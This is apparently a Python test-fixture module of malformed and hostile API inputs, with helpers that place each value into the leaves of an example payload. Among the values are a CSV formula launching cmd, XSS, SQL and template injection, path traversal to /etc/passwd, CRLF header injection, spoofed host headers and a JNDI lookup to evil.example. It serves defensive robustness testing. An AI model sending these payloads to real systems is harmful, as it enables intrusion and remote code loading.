"""What people send who mean no good, or whose program has gone wrong."""

import json
from collections.abc import Iterator, Sequence
from typing import Any

MEGABYTE = 1024 * 1024
# Room for the rest of the body: one field of nearly a megabyte is still read, and refused by its own limit.
LONG = "x" * (MEGABYTE - 20_000)


def nested(depth: int) -> Any:
    """Lists in lists."""
    thing: Any = []
    for _ in range(depth):
        thing = [thing]
    return thing


VALUES: dict[str, Any] = {
    "NUL": "a\x00b",
    "controls": "\x01\x1b[31m\x7f\x85",
    "a lone surrogate": "\ud800",
    "right to left": "\u202ead\u2066min",
    "combining": "e" + "\u0301" * 500,
    "beyond the first plane": "\U0010ffff\U0001f600",
    "one megabyte": LONG,
    "a formula": "=cmd|' /C calc'!A0",
    "markup": "<script>alert(1)</script>",
    "a template": "{{7*7}}${7*7}%s%n",
    "a query": "' OR 1=1 --",
    "a path": "../../../../etc/passwd\x00.png",
    "a newline": "a\r\nBcc: all@example.org",
    "an empty text": "",
    "spaces": " \t\u00a0\u200b",
    "2 to the 63rd": 2**63,
    "below -2 to the 63rd": -(2**63) - 1,
    "39 digits": 10**38,
    "the largest float": 1.7976931348623157e308,
    "a tiny float": 5e-324,
    "minus one": -1,
    "minus zero": -0.0,
    "half": 0.5,
    "true": True,
    "null": None,
    "a list": [],
    "an object": {},
    "an object that is none": {"": {"__proto__": {"$ne": None}}},
    "150 lists in each other": nested(150),
    "ten thousand texts": ["x"] * 10_000,
    "the same thousand times": [{"a": 1}] * 1000,
}
BODIES: dict[str, bytes] = {
    "nothing": b"",
    "null": b"null",
    "a list": b"[]",
    "a text": b'"text"',
    "a number": b"9223372036854775808",
    "cut off": b'{"',
    "duplicate keys": b'{"name":"a","name":"b","title":"a","title":"b","email":1,"email":"a@example.org"}',
    "lone surrogate": b'{"title":"\\ud800","name":"\\udfff"}',
    "not UTF-8": b'{"title":"\xff\xfe"}',
    "UTF-16": '{"title":"x"}'.encode("utf-16"),
    "deep lists": b"[" * 50_000,
    "deep objects": b'{"a":' * 50_000,
    "infinite": b'{"estimated_minutes":1e999}',
    "NUL": b"\x00" * 100,
    "too large": b" " * (MEGABYTE + 1),
    "many fields": json.dumps({f"field_{number}": number for number in range(5000)}).encode(),
    "gzip": b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03\xab\x56\x02\x00\x43\xbf\xa6\xa3\x02\x00\x00\x00",
}
QUERIES: dict[str, Any] = {
    "NUL": "\x00",
    "lone surrogate": b"\xed\xa0\x80",
    "not UTF-8": b"\xff\xfe",
    "2 to the 63rd": 2**63,
    "very negative": -(2**63),
    "four thousand digits": "9" * 4000,
    "zero": 0,
    "empty": "",
    "twice": ["1", "2"],
    "a list": "[1]",
    "not a number": "NaN",
    "long": "x" * 5000,
    "a query": "' OR 1=1 --",
    "right to left": "\u202e",
    "percent": "%",
}
PATHS: dict[str, str] = {
    "never was": "{prefix}_01JD0000000000000000000000",
    "of another kind": "zzz_01JD0000000000000000000000",
    "NUL": "\x00",
    "NUL inside": "{prefix}_01JD\x00",
    "dots": "..",
    "dots in a row": "..%2f..%2fetc",
    "empty": "",
    "unicode": "ä\u202e",
    "replaced": "\ufffd",
    "long": "{prefix}_" + "x" * 5000,
    "number": str(2**63),
    "hash": "{prefix}_1#ORG",
    "star": "*",
    "braces": "{{course_id}}",
    "newline": "{prefix}_01JD\r\nx: y",
}
# What an operation reads itself, and what the kernel reads for all of them.
OWN_HEADERS: dict[str, dict[str, str]] = {
    "tag that is none": {"if-match": "\x00\xff"},
    "a very long tag": {"if-match": '"' + "x" * 8000 + '"'},
    "a key with controls": {"idempotency-key": "\x01\x02"},
    "a very long key": {"idempotency-key": "x" * 8000},
}
OTHER_HEADERS: dict[str, dict[str, str]] = {
    "another correlation": {"x-correlation-id": 'x" onload="'},
    "another language": {"accept-language": "\xff" * 500},
    "another answer": {"accept": "application/xml;q=1, nonsense"},
    "another method": {"x-http-method-override": "DELETE", "x-method-override": "DELETE"},
    "another host": {"host": "evil.example", "x-forwarded-host": "evil.example", "x-original-url": "/admin"},
    "a range": {"range": "bytes=0-99999999999999999999"},
    "an address that is none": {"cloudfront-viewer-address": "nonsense", "x-forwarded-for": "127.0.0.1"},
    "compressed": {"content-encoding": "gzip"},
    "an odd length": {"content-length": "-1"},
    "a cookie": {"cookie": "a=" + "x" * 4000},
    "an old date": {"if-modified-since": "yesterday", "if-none-match": "*"},
    "a nasty program": {"user-agent": "\x1b[2J${jndi:ldap://evil.example/a}"},
}
OTHER_HEADERS_TOGETHER = {
    name: value
    for kind, headers in OTHER_HEADERS.items()
    if kind not in {"compressed", "an odd length"}  # either may end the request before anything else is read
    for name, value in headers.items()
}
KINDS = (
    "",
    "text/plain",
    "application/xml",
    "application/x-www-form-urlencoded",
    "multipart/form-data",
    "image/svg+xml",
)


def with_each_leaf(example: Any, value: Any) -> Iterator[tuple[str, Any]]:
    """The example with the value in the place of each of its leaves, once for the things of a list."""
    for steps in _leaves(example):
        yield "/" + "/".join(map(str, steps)), _replaced(example, steps, value)


def with_every_leaf(example: Any, value: Any) -> Any:
    """The example with the value in the place of each of its innermost leaves at once."""
    if isinstance(example, dict) and example:
        return {name: with_every_leaf(inner, value) for name, inner in example.items()}
    if isinstance(example, list) and example:
        return [with_every_leaf(example[0], value), *example[1:]]
    return value


def _replaced(thing: Any, steps: Sequence[Any], value: Any) -> Any:
    """The thing with a value at that place; what lies beside it is the same, not a copy."""
    if not steps:
        return value
    first, *others = steps
    twin = thing.copy()
    twin[first] = _replaced(thing[first], others, value)
    return twin


def _leaves(thing: Any) -> Iterator[tuple[Any, ...]]:
    inside = thing.items() if isinstance(thing, dict) else list(enumerate(thing))[:1] if isinstance(thing, list) else []
    for step, inner in inside:
        yield (step,)
        for steps in _leaves(inner):
            yield (step, *steps)
